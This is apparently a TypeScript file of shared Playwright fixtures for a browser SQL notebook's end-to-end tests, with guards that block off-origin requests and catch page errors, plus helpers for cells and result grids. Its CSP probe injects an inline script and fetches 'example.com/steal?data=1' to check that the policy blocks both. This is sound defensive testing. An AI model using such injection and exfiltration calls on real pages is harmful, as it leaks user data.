// Shared Playwright fixtures and helpers for lakebook's end-to-end tests.
//
// Every test gets two automatic guards:
//   - offline guard: every request (and WebSocket) whose origin differs from the app's origin is
//     recorded and aborted; after the test the list must be empty. data: and blob: URLs are fine;
//     anything else off-origin (another host or port, chrome-extension:, …) counts as leaving.
//   - error guard: uncaught exceptions in any page ('pageerror', seen via the context's 'weberror')
//     fail the test; console messages of type 'error' are attached to the report only.
//     `test.use({ allowPageErrors: true })` turns the failure off for a test that provokes them.
//
// App test hooks the helpers rely on (DESIGN §4, plus these):
//   window.__lakebook = { isReady: boolean, killWorker(): void }   set by the app; isReady becomes true
//                          once the engine is up and the UI is interactive.
//   ./?sample=0          start with an empty notebook and no sample tables (./ loads the sample data).
//   [data-testid=add-files]                 <input type=file multiple>
//   [data-testid=table-list] [data-table=NAME]   one entry per table, with data-row-count="<integer>"
//   [data-testid=add-sql-cell]              appends an empty SQL cell whose editor has focus
//   [data-testid=cell]                      data-cell-kind, data-status idle|queued|running|ok|error|stale
//   [data-testid=cell-editor]               the editor (a textarea, or an element containing it);
//                                           Shift+Enter in it runs the cell
//   [data-testid=cell-result] [role=grid]   aria-rowcount = rows + 1 (header); the grid element is its
//                                           own scroll container and is virtualized; rows role=row with
//                                           aria-rowindex (header row = 1), cells role=columnheader /
//                                           gridcell, and a row-number cell role=rowheader
//   [data-testid=cell-error]                visible while the cell is in error
//   [data-testid=stop-cell]                 button inside a running cell
//   [role=alert]                            names a file that failed to load

import { test as base, expect, type BrowserContext, type Locator, type Page } from '@playwright/test';

export { expect };

export interface LakebookTestHooks {
  isReady: boolean;
  killWorker(): void;
}

declare global {
  interface Window {
    __lakebook?: LakebookTestHooks;
  }
}

interface GuardOptions {
  /** Let uncaught page errors pass (they are still attached to the report). Default false. */
  allowPageErrors: boolean;
}

interface GuardFixtures {
  offlineGuard: void;
  errorGuard: void;
}

const DEFAULT_ORIGIN = `http://127.0.0.1:${process.env.E2E_PORT ?? 4173}`;

export const test = base.extend<GuardFixtures & GuardOptions>({
  allowPageErrors: [false, { option: true }],

  offlineGuard: [
    async ({ context, baseURL }, use) => {
      const appOrigin = new URL(baseURL ?? DEFAULT_ORIGIN).origin;
      const outside = await guardOrigin(context, appOrigin);

      await use();

      expectNothingLeft(outside, appOrigin);
    },
    { auto: true },
  ],

  errorGuard: [
    async ({ context, allowPageErrors }, use, testInfo) => {
      const pageErrors: string[] = [];
      const consoleErrors: string[] = [];
      context.on('weberror', (webError) => {
        const error = webError.error();
        const where = webError.page()?.url() ?? '(no page)';
        pageErrors.push(`${error.stack ?? `${error.name}: ${error.message}`}\n    (page ${where})`);
      });
      context.on('console', (message) => {
        if (message.type() !== 'error') return;
        const { url, lineNumber } = message.location();
        consoleErrors.push(`${message.text()}${url ? `  (${url}:${lineNumber})` : ''}`);
      });

      await use();

      if (consoleErrors.length > 0) {
        await testInfo.attach('console-errors.txt', { body: consoleErrors.join('\n'), contentType: 'text/plain' });
      }
      if (pageErrors.length > 0) {
        await testInfo.attach('page-errors.txt', { body: pageErrors.join('\n\n'), contentType: 'text/plain' });
      }
      if (!allowPageErrors) {
        expect(pageErrors, `Uncaught errors in the page:\n${pageErrors.join('\n\n')}`).toEqual([]);
      }
    },
    { auto: true },
  ],
});

/**
 * The offline guard on one browser context: every request and WebSocket whose origin is not
 * `appOrigin` is recorded and aborted. Returns the list of what tried to leave (check it with
 * `expectNothingLeft`). The fixture applies it to the test's context; a spec that opens a second
 * context (another site on another port) applies it there with that site's origin.
 */
export async function guardOrigin(context: BrowserContext, appOrigin: string): Promise<string[]> {
  const outside: string[] = [];
  const note = (url: string) => {
    if (!outside.includes(url)) outside.push(url);
  };
  const leavesOrigin = (url: string) => {
    let u: URL;
    try {
      u = new URL(url);
    } catch {
      return true;
    }
    if (u.protocol === 'data:' || u.protocol === 'blob:') return false;
    if (u.protocol === 'ws:' || u.protocol === 'wss:') {
      u = new URL(url.replace(/^ws/, 'http'));
    }
    return u.origin !== appOrigin;
  };

  context.on('request', (request) => {
    if (leavesOrigin(request.url())) note(request.url());
  });
  await context.route(
    () => true,
    async (route) => {
      const url = route.request().url();
      if (leavesOrigin(url)) {
        note(url);
        await route.abort('blockedbyclient');
      } else {
        await route.fallback();
      }
    },
  );
  await context.routeWebSocket(
    () => true,
    (ws) => {
      if (leavesOrigin(ws.url())) {
        note(ws.url());
        void ws.close({ code: 1008, reason: 'blocked by the e2e offline guard' });
      } else {
        ws.connectToServer();
      }
    },
  );
  return outside;
}

/** Fails when anything tried to leave `appOrigin` (the list from `guardOrigin`). */
export function expectNothingLeft(outside: string[], appOrigin: string): void {
  expect(
    outside,
    `The app sent requests outside its origin ${appOrigin} (they were blocked; the app must work offline):\n` +
      outside.map((u) => `  - ${u}`).join('\n'),
  ).toEqual([]);
}

// ---- helpers --------------------------------------------------------------------------------

/**
 * Opens the app and waits until `window.__lakebook.isReady` is true.
 * `sample: false` (the default) opens `./?sample=0`: an empty notebook without the sample tables.
 */
export async function openApp(page: Page, { sample = false }: { sample?: boolean } = {}): Promise<void> {
  await page.goto(sample ? './' : './?sample=0');
  await page.waitForFunction(() => window.__lakebook?.isReady === true, undefined, { timeout: 60_000 });
}

/** Adds files through `[data-testid=add-files]` (absolute paths). */
export async function addFiles(page: Page, paths: string[]): Promise<void> {
  await page.getByTestId('add-files').setInputFiles(paths);
}

/** The table-list entry for `name`, once it is visible (it carries `data-row-count`). */
export async function expectTable(page: Page, name: string, { timeout = 60_000 }: { timeout?: number } = {}): Promise<Locator> {
  const entry = tableEntry(page, name);
  await expect(entry, `table "${name}" should be listed`).toBeVisible({ timeout });
  return entry;
}

/** The table-list entry for `name` (no waiting). */
export function tableEntry(page: Page, name: string): Locator {
  return page.getByTestId('table-list').locator(`[data-table="${name.replaceAll('"', '\\"')}"]`);
}

/** A `[role=alert]` that names `fileName` (how a file that cannot be loaded is reported). */
export function loadErrorFor(page: Page, fileName: string): Locator {
  return page.getByRole('alert').filter({ hasText: fileName });
}

/**
 * Clicks `[data-testid=add-sql-cell]`, checks that the new (last) cell's editor has focus, types `sql`
 * with `keyboard.insertText` and returns the new cell.
 */
export async function addSqlCell(page: Page, sql: string): Promise<Locator> {
  const cells = page.getByTestId('cell');
  const before = await cells.count();
  await page.getByTestId('add-sql-cell').click();
  await expect(cells).toHaveCount(before + 1);
  const cell = cells.nth(before);
  await expect(cell).toHaveAttribute('data-cell-kind', 'sql');
  const editor = cell.getByTestId('cell-editor');
  await expect
    .poll(() => editor.evaluate((el) => el.contains(document.activeElement)), {
      message: 'the editor of the new SQL cell should have focus',
      timeout: 10_000,
    })
    .toBe(true);
  await page.keyboard.insertText(sql);
  return cell;
}

type StatusProbe = HTMLElement & { __lbStatusProbe?: { log: string[]; observer: MutationObserver } };

/**
 * Runs a cell with Shift+Enter in its editor and waits for this run to end; returns 'ok' or 'error'.
 * A MutationObserver on `data-status` makes sure a previous run's 'ok' is not mistaken for this one.
 */
export async function runCell(cell: Locator, { timeout = 100_000 }: { timeout?: number } = {}): Promise<'ok' | 'error'> {
  const editor = cell.getByTestId('cell-editor');
  if (!(await editor.evaluate((el) => el.contains(document.activeElement)))) {
    await editor.focus();
    if (!(await editor.evaluate((el) => el.contains(document.activeElement)))) await editor.click();
  }
  await cell.evaluate((el: StatusProbe) => {
    el.__lbStatusProbe?.observer.disconnect();
    const log: string[] = [];
    const observer = new MutationObserver((records) => {
      for (const r of records) log.push((r.target as Element).getAttribute('data-status') ?? '');
    });
    observer.observe(el, { attributes: true, attributeFilter: ['data-status'] });
    el.__lbStatusProbe = { log, observer };
  });
  await cell.page().keyboard.press('Shift+Enter');

  let status: string | null = null;
  await expect
    .poll(
      async () => {
        status = await cell.evaluate((el: StatusProbe) => {
          const s = el.getAttribute('data-status');
          // No probe: the element was re-created since we pressed, which means it re-rendered.
          const changed = el.__lbStatusProbe === undefined || el.__lbStatusProbe.log.length > 0;
          return changed && (s === 'ok' || s === 'error') ? s : `waiting (data-status=${s})`;
        });
        return status;
      },
      { timeout, intervals: [50, 100, 250, 500], message: 'the cell run should finish with data-status ok or error' },
    )
    .toMatch(/^(ok|error)$/);
  return status as unknown as 'ok' | 'error';
}

/** The result grid of a cell. */
export function gridOf(cell: Locator): Locator {
  return cell.getByTestId('cell-result').getByRole('grid');
}

/** Data rows of a grid: aria-rowcount minus the header row. */
export async function rowCount(grid: Locator): Promise<number> {
  return Number(await grid.getAttribute('aria-rowcount')) - 1;
}

/** The row with the given aria-rowindex (1 = header, 2 = first data row). */
export function gridRow(grid: Locator, ariaRowIndex: number): Locator {
  return grid.locator(`[role="row"][aria-rowindex="${ariaRowIndex}"]`);
}

/** The texts of a row's data cells (role=gridcell, row number excluded), trimmed. */
export async function rowTexts(row: Locator): Promise<string[]> {
  await expect(row).toBeVisible();
  // A row is drawn before its page of values arrives; its cells are marked pending until then.
  await expect(row.locator('[role=gridcell].pending')).toHaveCount(0);
  return (await row.getByRole('gridcell').allInnerTexts()).map((t) => t.trim());
}

/** Removes digit grouping ("1,234,567.50" → "1234567.50"); other text is left alone. */
export function ungroup(text: string): string {
  return text.trim().replace(/(?<=\d)[,\u00a0\u202f'](?=\d{3}(?!\d))/g, '');
}

/**
 * Scrolls the grid (its own scroll container) to the bottom until the last row is rendered, and
 * returns that row.
 */
export async function scrollToLastRow(grid: Locator, { timeout = 30_000 }: { timeout?: number } = {}): Promise<Locator> {
  const total = Number(await grid.getAttribute('aria-rowcount'));
  const last = gridRow(grid, total);
  await expect(async () => {
    await grid.evaluate((el) => {
      el.scrollTop = el.scrollHeight;
    });
    await expect(last).toBeVisible({ timeout: 1_000 });
  }).toPass({ timeout });
  return last;
}

/** Adds `SELECT 42 AS answer`, runs it and expects a grid cell reading 42: the engine still works. */
export async function expectEngineAlive(page: Page): Promise<void> {
  const cell = await addSqlCell(page, 'SELECT 42 AS answer');
  expect(await runCell(cell), 'SELECT 42 should run').toBe('ok');
  await expect(gridOf(cell).getByRole('gridcell', { name: '42', exact: true })).toBeVisible();
}

/**
 * The text in a cell's editor: the textarea's value before Monaco arrives, Monaco's visible lines after
 * (in order of their position; Monaco renders spaces as U+00A0). Short sources fit in view.
 */
export async function editorText(cell: Locator): Promise<string> {
  return cell.getByTestId('cell-editor').evaluate((root) => {
    const textarea = root.querySelector('textarea.fallback');
    if (root.getAttribute('data-editor') !== 'monaco' && textarea instanceof HTMLTextAreaElement) return textarea.value;
    const lines = Array.from(root.querySelectorAll<HTMLElement>('.view-lines .view-line'));
    lines.sort((a, b) => parseFloat(a.style.top) - parseFloat(b.style.top));
    return lines.map((line) => (line.textContent ?? '').replace(/\u00a0/g, ' ')).join('\n');
  });
}

/** Waits until a cell's editor shows `expected` (the whole text, or a pattern it matches). */
export async function expectEditorText(cell: Locator, expected: string | RegExp): Promise<void> {
  await expect
    .poll(() => editorText(cell), { message: 'the cell editor should show the expected text' })
    .toMatch(typeof expected === 'string' ? new RegExp(`^${expected.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}$`) : expected);
}

/**
 * Tries, from inside the page, what the Content-Security-Policy must stop: an injected inline script and
 * a fetch to another origin. Returns whether the script ran, what the fetch did and which directives
 * reported a violation. (Playwright's own `evaluate` is exempt from the policy; the script element and
 * the fetch it starts are not.)
 */
export async function probeCsp(page: Page): Promise<{ injected: boolean; fetched: 'sent' | 'blocked'; violations: string[] }> {
  return page.evaluate(async () => {
    const violations: string[] = [];
    const onViolation = (e: SecurityPolicyViolationEvent) => violations.push(e.effectiveDirective);
    document.addEventListener('securitypolicyviolation', onViolation);
    const script = document.createElement('script');
    script.textContent = 'window.__injected = true';
    document.body.append(script);
    const fetched = await fetch('https://example.com/steal?data=1').then(
      () => 'sent' as const,
      () => 'blocked' as const,
    );
    await new Promise((resolve) => setTimeout(resolve, 200));
    document.removeEventListener('securitypolicyviolation', onViolation);
    script.remove();
    return { injected: (window as unknown as { __injected?: boolean }).__injected === true, fetched, violations: [...new Set(violations)].sort() };
  });
}
